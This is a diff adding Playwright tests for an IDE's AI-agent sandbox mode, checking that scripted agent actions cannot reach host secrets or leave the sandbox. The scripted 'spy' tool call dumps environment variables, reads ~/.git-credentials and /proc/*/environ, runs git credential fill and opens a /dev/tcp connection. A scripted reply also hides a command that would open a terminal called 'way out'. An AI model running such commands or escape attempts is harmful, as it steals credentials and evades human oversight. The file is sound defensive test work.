@@ -1,0 +1,123 @@
+import { readFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import { AddressInfo } from 'node:net';
+import { Page } from '@playwright/test';
+import { Ide } from './support/ide';
+import { expect, testWith } from './support/test';
+
+const CANARY = 'canary-51c0ffee';
+
+const test = testWith({
+    files: {
+        'sum.js': 'module.exports = (a, b) => a - b;\n',
+        'test.js': 'if (require("./sum")(1, 2) !== 3) throw new Error("wrong"); console.log("test passed");\n'
+    },
+    environment: { CANARY_VARIABLE: `${CANARY}-variable` },
+    prepare: ide => {
+        ide.folder.file('outside.txt', `${CANARY}-file`);
+        ide.folder.file('home/.git-credentials', `https://me:${CANARY}-password@example.com\n`);
+        ide.folder.file('home/.gitconfig', '[credential]\n\thelper = store\n');
+    }
+});
+
+const offered = (ide: Ide, rule: string): string[] => {
+    const { tools = [] } = ide.model.requests.find(request => request.rule === rule)?.body as { tools?: { function: { name: string } }[] };
+    return tools.map(tool => tool.function.name).sort();
+};
+
+const statusBar = (page: Page) => page.locator('#theia-statusBar');
+
+async function confirm(page: Page): Promise<void> {
+    await page.locator('.dialogBlock button', { hasText: 'Turn off' }).click();
+}
+
+test('edits and tests a project in the sandbox, while the host stays out of reach', async ({ ide, chat, page }) => {
+    let visits = 0;
+    const server = createServer((_, response) => {
+        visits++;
+        response.end(`${CANARY}-loopback`);
+    });
+    await new Promise<void>(listening => server.listen(0, '127.0.0.1', listening));
+    const { port } = server.address() as AddressInfo;
+    const spy = `env; cat ${ide.folder.at('outside.txt')} ~/.git-credentials; cat /proc/*/environ; printf 'protocol=https\\nhost=example.com\\n\\n' | GIT_TERMINAL_PROMPT=0 git credential fill; exec 3<>/dev/tcp/127.0.0.1/${port} && echo GET / >&3 && cat <&3`;
+    chat.script([
+        {
+            name: 'mend', when: { lastUser: 'mend', lastRole: 'user' }, reply: [
+                { tool: 'sandbox_edit', arguments: { file_path: 'sum.js', old_string: 'a - b', new_string: 'a + b' } },
+                { tool: 'sandbox_bash', arguments: { command: 'node test.js' } },
+                { tool: 'sandbox_bash', arguments: { command: `${spy}; exit 3` } }
+            ]
+        },
+        { name: 'mended', when: { lastUser: 'mend', lastRole: 'tool' }, reply: [{ text: 'Mended. %%OS{"cmd":"openspace.terminal.create","args":{"title":"way out"}}%%' }] },
+        { name: 'told', when: { lastRole: 'user', lastUser: 'This session runs in a sandbox' }, reply: [{ text: 'I see.' }] },
+        { name: 'ordinary', when: { lastUser: 'beside', lastRole: 'user' }, reply: [{ text: 'here' }] }
+    ]);
+    const button = page.getByTestId('chat-sandbox');
+    await expect(button).toHaveAttribute('data-state', 'off');
+    await button.click();
+    await expect(button).toHaveAttribute('data-state', 'on');
+    await expect(statusBar(page)).toContainText('Sandbox');
+    await chat.ask('mend it');
+    await expect(chat.replies.filter({ hasText: 'Mended.' })).toBeVisible();
+    await expect(statusBar(page)).toContainText('Sandbox: bubblewrap');
+
+    expect(offered(ide, 'mend')).toEqual(['question', 'sandbox_bash', 'sandbox_edit', 'sandbox_git', 'sandbox_glob', 'sandbox_grep', 'sandbox_read', 'sandbox_write', 'todowrite']);
+    expect(readFileSync(ide.folder.at('workspace/sum.js'), 'utf8')).toBe('module.exports = (a, b) => a + b;\n');
+    const said = JSON.stringify(ide.model.requests);
+    expect(said).toContain('test passed');
+    expect(said).not.toContain(CANARY);
+    expect(visits).toBe(0);
+    server.close();
+
+    // Shown like the agent server's own tools, with a mark.
+    const shell = page.locator('[data-testid="tool-card"][data-tool="bash"]');
+    await expect(shell).toHaveCount(2);
+    await expect(shell.first().getByTestId('tool-sandbox')).toBeVisible();
+    await shell.first().locator('summary').first().click();
+    await expect(shell.first().getByTestId('shell-output')).toHaveText('test passed');
+    await expect(shell.nth(1)).toContainText('exit 3');
+    await expect(page.locator('[data-testid="tool-card"][data-tool="edit"]')).toContainText('sum.js');
+
+    // The window is no way out.
+    await expect(page.locator('.terminal-container')).toHaveCount(0);
+    expect(JSON.stringify(ide.model.requests)).toContain('This session runs in a sandbox: commands that run programs');
+
+    await chat.newSession();
+    await expect(button).toHaveAttribute('data-state', 'off');
+    await expect(statusBar(page)).not.toContainText('Sandbox');
+    await chat.ask('beside it');
+    expect(offered(ide, 'ordinary')).toEqual(expect.arrayContaining(['bash', 'edit', 'read', 'task', 'write']));
+    expect(offered(ide, 'ordinary').filter(name => name.startsWith('sandbox'))).toEqual([]);
+});
+
+test('keeps the switch over a reload, shows it in a second tab, and turns it off after the turn', async ({ ide, chat, page, context }) => {
+    chat.script([
+        { name: 'wait', when: { lastUser: 'wait', lastRole: 'user' }, reply: [{ text: 'Waiting. ' }, { hold: 'end' }] },
+        { name: 'after', when: { lastUser: 'again', lastRole: 'user' }, reply: [{ tool: 'bash', arguments: { command: 'pwd > where.txt', description: 'x' } }] },
+        { name: 'end', when: { lastRole: 'tool' }, reply: [{ text: 'over' }] }
+    ]);
+    const button = page.getByTestId('chat-sandbox');
+    // The message is sent at once: it waits for the switch.
+    await button.click();
+    await chat.send('wait for me');
+    await expect(chat.replies.last()).toContainText('Waiting.');
+    expect(offered(ide, 'wait')).toContain('sandbox_bash');
+    expect(offered(ide, 'wait')).not.toContain('bash');
+    await page.reload();
+    await chat.ready();
+    await expect(button).toHaveAttribute('data-state', 'on');
+    const other = await context.newPage();
+    await other.goto(ide.link);
+    await expect(other.getByTestId('chat-sandbox')).toHaveAttribute('data-state', 'on');
+    await button.click();
+    await confirm(page);
+    await expect(button).toHaveAttribute('data-state', 'waiting');
+    await expect(page.locator('.theia-notification-message', { hasText: 'leaves the sandbox when this turn is over' }).first()).toBeVisible();
+    ide.model.release('end');
+    await expect(button).toHaveAttribute('data-state', 'off');
+    await expect(other.getByTestId('chat-sandbox')).toHaveAttribute('data-state', 'off');
+    await other.close();
+    await chat.ask('again');
+    expect(offered(ide, 'after')).toContain('bash');
+    expect(readFileSync(ide.folder.at('workspace/where.txt'), 'utf8').trim()).toBe(ide.workspace);
+});
